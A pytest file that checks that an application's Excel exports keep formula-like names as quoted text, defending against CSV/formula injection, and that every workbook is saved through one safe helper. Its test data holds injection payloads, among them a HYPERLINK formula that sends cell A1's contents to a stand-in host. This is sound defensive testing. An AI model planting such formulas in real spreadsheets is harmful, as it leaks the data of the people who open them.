"""Exported workbooks cannot be turned against the person who opens them: a section named `=1+2`
or a person named `=HYPERLINK(...)` (data from an older version, or from a synced unit) is shown
as the text it is, never run as a formula (OWASP "CSV injection": = + - @ tab CR).

Every workbook the program writes goes through app.reports.xlsx_safe.save_workbook; the last test
checks the source so that a new writer cannot bypass it."""
from __future__ import annotations

import ast
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.core.metrics import parse_period
from app.db.models import Person, Section
from app.reports.xlsx_tables import write_tables
from app.services.review import reminders
from app.services.stats import compute as stats
from app.services.stats.export import export_stats_xlsx
from tests.unit.test_reminders import MON, submit, unit  # noqa: F401 — the fixture

APP = Path(__file__).resolve().parents[2] / "app"
SECTION = "=1+2"
PERSON = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
HOSTILE = (SECTION, PERSON, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1")
CR = "\r=1+1"      # XML reads a carriage return back as a line feed: checked on its own


def text_cells(path: Path) -> dict[str, list]:
    """Every cell holding one of the HOSTILE texts, by its text, in the saved file."""
    found: dict[str, list] = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if cell.value in HOSTILE:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_text(cells: list) -> None:
    for cell in cells:
        assert cell.data_type == "s"
        # Excel's own "text" marker (the leading apostrophe): editing the cell keeps it text.
        assert cell.quotePrefix, cell.coordinate


def test_tables_keep_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    rows = [[text, -3, -2.5, "正常"] for text in HOSTILE + (CR,)]
    path = write_tables(tmp_path / "t.xlsx", "测试", [("表", ("名称", "差值", "比例", "备注"), rows)],
                        percent_columns={"比例"})
    cells = text_cells(path)
    assert set(cells) == set(HOSTILE)              # every text unchanged, none lost
    for found in cells.values():
        assert_text(found)
    ws = load_workbook(path)["表"]
    assert [ws.cell(r, 2).value for r in range(3, 3 + len(HOSTILE))] == [-3] * len(HOSTILE)
    assert all(ws.cell(r, 2).data_type == "n" and ws.cell(r, 3).data_type == "n"
               for r in range(3, 3 + len(HOSTILE)))
    assert not ws.cell(3, 4).quotePrefix          # ordinary text left alone
    cr = ws.cell(3 + len(HOSTILE), 1)
    assert cr.value == "\n=1+1" and cr.data_type == "s" and cr.quotePrefix


@pytest.fixture
def hostile_unit(unit_db, unit):  # noqa: F811 — pytest fixture from test_reminders
    """The reminders unit, with 综合科 renamed `=1+2` and 张三 named `=HYPERLINK(...)` behind the
    program's back (as data written by an older version would be)."""
    with unit_db.session() as s:
        s.execute(update(Section).where(Section.name == "综合科").values(name=SECTION))
        s.execute(update(Person).where(Person.login == "zhangsan").values(name=PERSON))
    return unit


def test_notice_export_writes_names_as_text(unit_db, hostile_unit, tmp_path):
    submit(unit_db, hostile_unit["zhangsan"], dt.date(2026, 9, 30))
    report = reminders.notice(unit_db, hostile_unit["qian"], dt.date(2026, 10, 8), MON)
    cells = text_cells(reminders.export_notice_xlsx(report, tmp_path / "notice.xlsx"))
    assert len(cells[PERSON]) == 2 and len(cells[SECTION]) >= 2     # both sheets
    for found in cells.values():
        assert_text(found)


def test_stats_export_writes_names_as_text(unit_db, hostile_unit, tmp_path):
    submit(unit_db, hostile_unit["zhangsan"], dt.date(2026, 10, 12))
    page = stats.stats_page(unit_db, parse_period("2026-10-12..2026-10-16"), approved_only=False,
                            today=dt.date(2026, 10, 20))
    cells = text_cells(export_stats_xlsx(unit_db, page, tmp_path / "stats.xlsx"))
    assert cells[PERSON] and cells[SECTION]
    for found in cells.values():
        assert_text(found)


def test_every_workbook_is_saved_through_the_safe_helper():
    """No module saves an openpyxl workbook itself: `save_workbook` is the one door out."""
    offenders = []
    for path in sorted(APP.rglob("*.py")):
        if path.name == "xlsx_safe.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        workbooks = set()               # names (or attributes) bound to a new or loaded workbook
        for node in ast.walk(tree):
            if (isinstance(node, ast.Assign) and isinstance(node.value, ast.Call)
                    and getattr(node.value.func, "id", getattr(node.value.func, "attr", ""))
                    in ("Workbook", "load_workbook")):
                workbooks |= {getattr(t, "id", getattr(t, "attr", None)) for t in node.targets}
        for node in ast.walk(tree):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "save"
                    and getattr(node.func.value, "id", getattr(node.func.value, "attr", None))
                    in workbooks):
                offenders.append(f"{path.relative_to(APP.parent)}:{node.lineno}")
    assert offenders == []
